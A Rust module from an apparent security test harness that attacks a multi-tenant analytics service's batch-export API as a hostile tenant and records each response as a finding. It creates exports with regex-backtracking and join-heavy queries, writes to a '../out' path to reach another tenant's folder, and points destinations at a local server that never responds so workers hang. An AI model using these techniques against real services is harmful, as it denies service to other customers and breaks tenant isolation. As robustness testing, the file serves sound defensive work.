//! Exports of the highest cost: slow queries, servers that hang, folders of other tenants.

use super::context::{AttackContext, EXPORT_FOLDER};
use crate::attack::http::Outcome;
use crate::attack::tenants::text;
use anyhow::{Context, Result};
use rand::RngExt;
use rand::rngs::StdRng;
use serde_json::{Value, json};
use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use tokio::net::TcpListener;
use tokio::time::sleep;

/// Exports that are kept before the oldest are deleted.
const KEPT: usize = 8;

/// Starts a server on this machine that accepts connections and never responds.
pub(super) async fn hanging_server() -> Result<SocketAddr> {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).await;
    let listener = listener.context("cannot listen")?;
    let address = listener.local_addr().context("cannot listen")?;
    tokio::task::spawn_local(async move {
        let mut held = Vec::new();
        while let Ok((stream, _)) = listener.accept().await {
            held.push(stream);
        }
    });
    Ok(address)
}

/// Creates exports with the most expensive queries, into the good tenant's folder.
pub(super) async fn queries(context: Arc<AttackContext>, mut rng: StdRng) {
    let matched: Vec<String> = (0..20)
        .map(|number| format!("match(properties, 'a[ab]{{{}}}c')", 280 + number))
        .collect();
    let queries = [
        format!("SELECT uuid FROM events WHERE {}", matched.join(" AND ")),
        "SELECT uuid FROM events WHERE match(properties, '(a+)+$') OR properties LIKE '%a%b%c%d%'"
            .to_owned(),
        "SELECT distinct_id, count() FROM events GROUP BY distinct_id ORDER BY distinct_id"
            .to_owned(),
        "SELECT a.uuid FROM events AS a JOIN events AS b ON a.event = b.event".to_owned(),
        format!(
            "SELECT {} FROM events",
            vec!["lower(properties)"; 900].join(", ")
        ),
    ];
    loop {
        for query in &queries {
            let path = if rng.random() {
                EXPORT_FOLDER
            } else {
                "../out"
            };
            let destination = json!({"type": "FileSystem", "config": {"path": path}});
            let new = json!({"name": "Costly", "interval": "every 5 minutes",
                "destination": destination, "hogql_query": query});
            export(&context, "costly exports", &new).await;
        }
        clear(&context, KEPT).await;
    }
}

/// Creates exports to servers that accept a connection and never respond.
pub(super) async fn hanging(context: Arc<AttackContext>, hung: SocketAddr) {
    let (host, port) = (hung.ip().to_string(), hung.port());
    let destinations = [
        json!({"type": "HTTP", "config": {"url": format!("http://{hung}/batch/"), "token": "t"}}),
        json!({"type": "Postgres", "config": {"user": "u", "password": "p", "host": host, "port": port,
            "database": "d", "table_name": "t"}}),
        json!({"type": "S3", "config": {"bucket_name": "bucket", "region": "eu-central-1", "prefix": "p",
            "aws_access_key_id": "a", "aws_secret_access_key": "b",
            "endpoint_url": format!("http://{hung}")}}),
    ];
    loop {
        for destination in &destinations {
            let new = json!({"name": "Hanging", "interval": "every 5 minutes", "destination": destination});
            export(&context, "exports to servers that hang", &new).await;
            let test = context
                .tenants
                .hostile
                .ask("POST", "batch_exports/test/", &new);
            let outcome = test.await;
            context
                .findings
                .note("tests of destinations that hang", &outcome);
        }
        clear(&context, KEPT).await;
    }
}

/// Creates an export and a backfill of all its events.
async fn export(context: &AttackContext, what: &str, new: &Value) {
    let hostile = &context.tenants.hostile;
    let made = hostile.ask("POST", "batch_exports/", new).await;
    context.findings.note(what, &made);
    if let Some(id) = text(&made.json(), "/id") {
        let path = format!("batch_exports/{id}/backfill/");
        let backfilled = hostile.ask("POST", &path, &json!({})).await;
        context
            .findings
            .note("backfills of everything", &backfilled);
    }
    sleep(context.pause * 20).await;
}

/// Deletes the oldest exports until `kept` are left.
pub(super) async fn clear(context: &AttackContext, kept: usize) {
    let hostile = &context.tenants.hostile;
    let listed = hostile
        .ask("GET", "batch_exports/?limit=200", &Value::Null)
        .await;
    let json = listed.json();
    let results = json.pointer("/results").and_then(Value::as_array);
    let ids = results
        .into_iter()
        .flatten()
        .filter_map(|it| text(it, "/id"));
    let ids: Vec<String> = ids.collect();
    let beyond = ids.len().saturating_sub(kept);
    for id in ids.iter().take(beyond) {
        let path = format!("batch_exports/{id}/");
        let deleted: Outcome = hostile.ask("DELETE", &path, &Value::Null).await;
        context.findings.note("deleted exports", &deleted);
    }
}
